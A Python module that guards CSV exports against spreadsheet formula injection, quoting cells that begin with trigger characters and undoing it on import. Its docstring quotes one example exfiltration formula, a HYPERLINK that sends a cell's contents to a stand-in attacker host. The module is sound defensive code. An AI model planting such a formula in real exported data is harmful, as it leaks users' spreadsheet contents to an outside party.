"""Spreadsheet formula injection: exported text never runs as a formula, and reads back as it was.

OWASP's guidance for CSV: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
is prefixed with a single quote, so a spreadsheet shows it as text instead of evaluating it
(`=HYPERLINK("http://evil.example/?leak="&A1, …)`). Numbers are left alone (`-3.5` is a
number, not a formula). A text that itself starts with a quote before one of those characters
gets one more quote, so `unguard` can always take exactly one off: the import of our own export
gives back the original text. In XLSX every text is written as a string cell instead, which
a spreadsheet never evaluates.
"""

from __future__ import annotations

from typing import Any

__all__ = ["TRIGGERS", "guard", "unguard"]

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


def _needs_guard(text: str) -> bool:
    if text.startswith(TRIGGERS):
        return not _is_number(text)
    return text.startswith(_QUOTE) and text[1:].startswith((*TRIGGERS, _QUOTE))


def guard(value: Any) -> Any:
    """A CSV cell that a spreadsheet shows as the text it is; non-text values unchanged."""
    if isinstance(value, str) and _needs_guard(value):
        return _QUOTE + value
    return value


def unguard(value: Any) -> Any:
    """The text `guard` was given: one leading quote off, where guard would have put one."""
    if isinstance(value, str) and value.startswith(_QUOTE) and _needs_guard(value[1:]):
        return value[1:]
    return value
